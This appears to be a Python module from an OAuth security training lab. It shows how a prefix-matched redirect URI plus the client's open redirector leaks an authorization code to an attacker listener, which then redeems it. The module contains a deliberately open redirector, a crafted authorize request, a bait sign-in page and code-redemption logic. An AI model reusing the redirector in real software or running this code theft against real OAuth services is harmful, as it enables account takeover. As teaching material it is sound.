"""Lab "open-redirect": a redirect URI matched by prefix reaches the client's own
open redirector, which passes the code on to the attacker (RFC 9700 §4.11.1,
§4.1.1); exact matching refuses it (§4.1.3)."""

from __future__ import annotations

import secrets
from collections.abc import Mapping
from urllib.parse import urlencode

from flowlab.core.http import Exchange
from flowlab.core.http import Message
from flowlab.core.http import s256
from flowlab.labs import client
from flowlab.labs import crafted
from flowlab.labs import wire
from flowlab.labs.catalogue import Lab
from flowlab.labs.page import NOT_FOUND
from flowlab.labs.page import Answer
from flowlab.labs.page import Incoming
from flowlab.labs.page import redirect
from flowlab.labs.store import Run


def _listener(run: Run, config: Mapping) -> str:
    return f"{config['LABS_ATTACKER_URL']}/labs/{run.lab}/{run.id}/as/catch"


def _redirect_uri(run: Run, config: Mapping) -> str:
    """Under the registered callback, then up to the client's redirector, whose
    target is the attacker's listener."""
    return (client.redirect_uri(run) + "/../page/go?"
            + urlencode({"to": _listener(run, config)}))


def _crafted(run: Run, lab: Lab, config: Mapping) -> str:
    """The client's real id, the crafted redirect URI, the attacker's own state
    and PKCE challenge (it holds the verifier: RFC 7636 does not help here)."""
    verifier = run.attacker.setdefault("verifier", secrets.token_urlsafe(48))
    params = {**client.authorize_params(run, config, secrets.token_urlsafe(24)),
              "redirect_uri": _redirect_uri(run, config),
              "code_challenge": s256(verifier), "code_challenge_method": "S256"}
    return (run.origin + client.issuer_path(run, lab) + "/authorize?"
            + urlencode(params))


def client_page(run: Run, lab: Lab, name: str, config: Mapping,
                sent: Incoming) -> Answer:
    """The client's redirector, ``go?to=<URL>``: any target, the rest of the
    query passed along (for campaign tags): the open redirector of RFC 9700
    §4.11.1."""
    if name != "go":
        return NOT_FOUND
    target = sent.args.get("to")
    if not target:
        return Answer(400, "Where to? go?to=<address>", mimetype="text/plain")
    rest = {key: value for key, value in sent.args.items() if key != "to"}
    where = target + ("&" if "?" in target else "?") + urlencode(rest) \
        if rest else target
    answer = Message("HTTP/1.1 302 Found", [("Location", where)])
    run.record("redirector", "victim", "front",
               Exchange(sent.message, answer, url=sent.url))
    return redirect(where, 302)


def serve(run: Run, lab: Lab, endpoint: str, config: Mapping,
          sent: Incoming) -> Answer:
    """``go``: the bait sends the browser to the crafted request; ``catch``: what
    the redirector passed on arrives, and a code is redeemed at once, once."""
    if endpoint == "go":
        return crafted.send(run, config, sent, _crafted(run, lab, config))
    if endpoint != "catch":
        return NOT_FOUND
    return crafted.redeem(run, lab, config, sent, _redirect_uri(run, config))


def attacker_view(run: Run, lab: Lab) -> dict:
    """The bait, or what the attacker got with the code."""
    token = run.entries("attacker-token")
    if token and token[-1].exchange.response is not None:
        answer = token[-1].exchange.response
        return {"heading": "Alice's code arrived here",
                "text": "PlaylistPal's own redirector sent it. The attacker"
                        " redeemed it; the token endpoint answered:",
                "shown": answer.start_line + "\n\n" + answer.pretty_body()}
    return {"heading": "PlaylistPal's web player: a month free",
            "text": "Sign in with your music account to claim it.",
            "link": f"/labs/{run.lab}/{run.id}/as/go",
            "link_text": "Sign in to PlaylistPal"}


def succeeded(run: Run) -> bool | None:
    """On the wire: did the attacker redeem a code its listener received (True)?
    False when the server refused the crafted request itself (an error page, no
    redirect: no code can ever come); None until one of them shows (a sign-in
    through the client's own button, or a cancel, decides nothing)."""
    token = run.entries("attacker-token")
    if token and wire.status(token[-1]) == 200:
        return True
    answer = run.entries("crafted-answer")
    return False if answer and wire.status(answer[-1]) == 400 else None
